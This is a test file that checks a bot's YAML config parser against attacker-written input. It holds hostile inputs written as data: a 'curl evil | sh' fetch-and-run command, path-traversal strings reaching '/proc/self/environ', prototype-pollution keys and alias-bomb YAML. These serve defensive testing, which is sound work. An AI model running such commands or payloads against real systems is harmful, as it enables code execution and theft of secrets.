import { afterEach, describe, expect, it, vi } from 'vitest';
import { parseRepoConfig } from '../src/index.ts';
import { problemsOf } from './problems-of.ts';

// `.evalbot.yml` is written by whoever opens the pull request (the head's own commands) or sits
// on the base branch: an attacker's file is read by the worker before any sandbox is up.

describe('an attacker’s .evalbot.yml', () => {
  it('cannot smuggle an infinite or not-a-number value into a limit or a threshold', () => {
    // YAML reads 1e309 as Infinity and `.nan` as NaN: a gate of NaN would never fail.
    for (const [text, key, shown] of [
      ['timeout_minutes: 1e309', 'timeout_minutes', 'Infinity'],
      ['timeout_minutes: .inf', 'timeout_minutes', 'Infinity'],
      ['significance: .nan', 'significance', 'NaN'],
      ['seed: -.inf', 'seed', '-Infinity'],
      [
        'metrics: {accuracy: {direction: higher, fail_if_worse_by: .nan}}',
        'metrics.accuracy.fail_if_worse_by',
        'NaN',
      ],
      [
        'metrics: {loss: {direction: lower, fail_if_worse_by_pct: .inf}}',
        'metrics.loss.fail_if_worse_by_pct',
        'Infinity',
      ],
    ] as const) {
      expect(problemsOf(text)).toEqual([
        {
          key,
          problem: `is ${shown}, not a number`,
          fix: expect.stringMatching(/^give it a number, e\.g\. `/),
        },
      ]);
    }
  });

  it('reads -0 minutes as 0, which is refused as no time at all', () => {
    expect(problemsOf('timeout_minutes: -0')).toEqual([
      { key: 'timeout_minutes', problem: 'is 0; it must be more than 0', fix: 'e.g. `timeout_minutes: 30`' },
    ]);
  });

  it('pollutes no prototype with __proto__ or constructor keys, and keeps "constructor" an ordinary metric', () => {
    const config = parseRepoConfig(
      // (A metric named __proto__ is refused: see below.)
      'metrics:\n  constructor: {direction: lower, fail_if_worse_by: 2}\nenv: {__proto__: {direction: lower}, constructor: y}\n',
    );
    expect(({} as Record<string, unknown>).direction).toBeUndefined();
    expect(({} as Record<string, unknown>).fail_if_worse_by).toBeUndefined();
    expect(Object.getPrototypeOf(config.metrics)).toBe(Object.prototype);
    expect(Object.getPrototypeOf(config.env)).toBe(Object.prototype);
    expect(config.metrics.constructor).toEqual({ direction: 'lower', fail_if_worse_by: 2 });
    expect(config.env).toEqual({ constructor: 'y' });
    expect(problemsOf('__proto__: {run: "curl evil | sh"}')).toMatchObject([
      { key: '__proto__', problem: 'is not a known key' },
    ]);
  });

  // A metric literally named `__proto__` cannot be kept (the evaluator skips it with a note), so
  // its settings are refused, naming the key, instead of being dropped without a word.
  it('names the settings of a metric called __proto__ as a problem instead of dropping them silently', () => {
    expect(problemsOf('metrics:\n  __proto__: {direction: lower, fail_if_worse_by: 1}\n')).toMatchObject([
      {
        key: 'metrics.__proto__',
        problem: 'cannot be a metric name evalbot keeps',
        fix: 'rename the metric (in the metrics file and here)',
      },
    ]);
  });

  it('refuses a document nested deep enough to exhaust the stack, as invalid YAML', () => {
    for (const text of [
      `metrics: ${'['.repeat(5000)}${']'.repeat(5000)}`,
      `metrics: ${'{a: '.repeat(3000)}1${'}'.repeat(3000)}`,
    ]) {
      expect(problemsOf(text)).toEqual([
        { key: '(file)', problem: expect.stringMatching(/^is not valid YAML: /), fix: 'fix the YAML syntax' },
      ]);
    }
  });

  it('refuses more aliases than a config needs (the cap that stops a billion laughs)', () => {
    // 60 aliases of one small anchor expand to nothing big, but the count alone is refused.
    const text = ['a: &a 1', ...Array.from({ length: 60 }, (_, i) => `k${i}: *a`)].join('\n');
    expect(problemsOf(text)[0]).toEqual({
      key: '(file)',
      problem: 'is not valid YAML: Excessive alias count indicates a resource exhaustion attack',
      fix: 'fix the YAML syntax',
    });
  });

  afterEach(() => {
    vi.restoreAllMocks();
  });

  it('writes nothing to the worker’s stderr, however many unknown tags it holds', () => {
    const warnings = vi.spyOn(process, 'emitWarning').mockImplementation(() => {});
    const text = `setup:\n${Array.from({ length: 500 }, () => '  - !!js/undefined x').join('\n')}\n`;
    expect(parseRepoConfig(text).setup).toHaveLength(500);
    expect(warnings).not.toHaveBeenCalled();
  });

  it('runs no code for language tags and takes no merge keys', () => {
    // YAML 1.2's core schema: `!!js/function` is an unknown tag (the text stays text), `<<` a plain key.
    expect(parseRepoConfig('run: !!js/function "function () { process.exit(1) }"').run).toBe(
      'function () { process.exit(1) }',
    );
    expect(problemsOf('defaults: &d {run: evil}\n<<: *d\n').map((p) => p.key)).toEqual(['defaults', '<<']);
  });

  it('refuses a NUL character in paths, commands and env values, naming the key', () => {
    // Unrefused, a NUL reached fs and spawn calls that throw: an internal error retried three
    // times and reported as "not a problem of the PR".
    const problems = problemsOf(
      [
        'metrics_file: "result.txt\\0"',
        'working_directory: "model\\0"',
        'requirements: "requirements.txt\\0"',
        'run: "python3 demo.py\\0"',
        'setup: ["true", "true\\0"]',
        'env: {EPOCHS: "3\\0"}',
      ].join('\n'),
    );
    expect(problems.map((p) => [p.key, p.problem])).toEqual([
      ['requirements', 'must not contain a NUL character (\\0)'],
      ['setup.1', 'must not contain a NUL character (\\0)'],
      ['run', 'must not contain a NUL character (\\0)'],
      ['metrics_file', 'must not contain a NUL character (\\0)'],
      ['working_directory', 'must not contain a NUL character (\\0)'],
      ['env.EPOCHS', 'must not contain a NUL character (\\0)'],
    ]);
    expect(problemsOf('setup: "true\\0"')).toEqual([
      { key: 'setup', problem: 'must not contain a NUL character (\\0)', fix: expect.any(String) },
    ]);
  });

  it('refuses paths that leave the checkout however they are spelt', () => {
    for (const path of ['..', './../x', 'a/../../x', '/proc/self/environ', '..\\\\x', 'a\\\\..\\\\..\\\\x']) {
      expect(problemsOf(`metrics_file: "${path}"`)).toMatchObject([
        { key: 'metrics_file', problem: 'must be a path inside the repository (relative, no "..")' },
      ]);
    }
  });
});
